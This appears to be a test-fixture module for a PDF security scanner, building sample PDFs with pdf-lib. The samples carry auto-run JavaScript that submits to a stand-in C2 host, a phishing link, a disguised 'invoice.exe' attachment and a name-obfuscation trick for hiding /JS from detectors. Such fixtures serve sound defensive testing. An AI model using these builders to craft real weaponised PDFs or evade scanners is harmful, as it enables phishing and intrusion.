// PDFs the tests build with pdf-lib: one whose OpenAction runs JavaScript (with a URI link and an obfuscated
// /JS name added after saving), and one carrying files both in the EmbeddedFiles name tree and in a
// FileAttachment annotation.
import { spawnSync } from 'node:child_process';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

export const OPEN_JS = "app.alert('Invoice'); this.submitForm('http://evil.example.com/c2');";
export const AA_JS = "app.launchURL('http://second.example.net/p', true);";

export async function openActionPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.setProducer('Assay test builder');
  doc.setCreator('Assay tests');
  doc.setAuthor('Mallory');
  doc.setModificationDate(new Date('2024-01-08T14:48:01Z'));
  doc.setCreationDate(new Date('2023-12-16T19:48:52Z'));
  const page = doc.addPage([300, 300]);
  const ctx = doc.context;
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(OPEN_JS) })));
  // A page-open additional action whose script lives in a stream rather than a string.
  const stream = ctx.register(ctx.flateStream(AA_JS));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(ctx.obj({ S: 'JavaScript', JS: stream })) }));
  const link = ctx.register(ctx.obj({
    Type: 'Annot', Subtype: 'Link', Rect: [10, 10, 100, 30], Border: [0, 0, 0],
    A: { S: 'URI', URI: PDFString.of('https://phish.example.org/login?id=1') },
  }));
  page.node.set(PDFName.of('Annots'), ctx.obj([link]));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

export const ATTACHED = Buffer.from('MZ\x90\x00 pretend executable payload for the embedded-file test\n', 'latin1');
export const ANNOTATED = Buffer.from('second file, attached to a page annotation\n');

export async function attachmentPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 300]);
  await doc.attach(ATTACHED, 'invoice.exe', { mimeType: 'application/octet-stream', description: 'name tree attachment' });
  const ctx = doc.context;
  const ef = ctx.register(ctx.flateStream(ANNOTATED, { Type: 'EmbeddedFile' }));
  const fs = ctx.obj({ Type: 'Filespec', F: PDFString.of('notes.txt'), UF: PDFString.of('notes.txt'), EF: { F: ef } });
  const annot = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [10, 10, 30, 30], FS: fs, Contents: PDFString.of('notes') }));
  page.node.set(PDFName.of('Annots'), ctx.obj([annot]));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** Rewrites the name /JS of the OpenAction as "/J#53", which readers decode back to /JS. */
export function obfuscateJs(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const type = text.indexOf('/Type /Action');
  const js = text.indexOf('/JS (', type);
  if (type < 0 || js < 0) throw new Error('no OpenAction to obfuscate');
  // "/JS " → "/J#53" grows by one byte and "/Type /Action" → 12 spaces shrinks by one, inside the same object,
  // so every cross-reference offset stays valid.
  return Buffer.from(`${text.slice(0, type)}${' '.repeat(12)}${text.slice(type + 13, js)}/J#53${text.slice(js + 4)}`, 'latin1');
}

/** qpdf's object-stream rewrite, or null when qpdf is not installed. */
export function withObjectStreams(inPath: string, outPath: string): boolean | null {
  if (spawnSync('which', ['qpdf']).status !== 0) return null;
  const r = spawnSync('qpdf', ['--object-streams=generate', inPath, outPath], { encoding: 'utf8' });
  // qpdf exits 3 when it succeeded with warnings (e.g. a repaired file).
  if (r.status !== 0 && r.status !== 3) throw new Error(`qpdf failed: ${r.stderr}`);
  return true;
}

export const DOC_JS = 'var x = util.printd("yyyy", new Date()); app.alert(x);';

/** Document-level JavaScript in the catalog's /Names /JavaScript tree, which readers run when the file opens. */
export async function namesJavaScriptPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]);
  const ctx = doc.context;
  const action = ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of(DOC_JS) }));
  const tree = ctx.register(ctx.obj({ Names: [PDFString.of('init'), action] }));
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: tree }));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** qpdf's encryption of a file (AES-256 with `bits` 256, RC4 with 128), or null when qpdf is missing. */
export function encrypt(inPath: string, outPath: string, bits: 128 | 256): boolean | null {
  if (spawnSync('which', ['qpdf']).status !== 0) return null;
  const extra = bits === 128 ? ['--use-aes=n'] : [];
  const r = spawnSync('qpdf', ['--allow-weak-crypto', '--encrypt', '', 'owner-secret', String(bits), ...extra, '--', inPath, outPath], { encoding: 'utf8' });
  if (r.status !== 0 && r.status !== 3) throw new Error(`qpdf failed: ${r.stderr}`);
  return true;
}
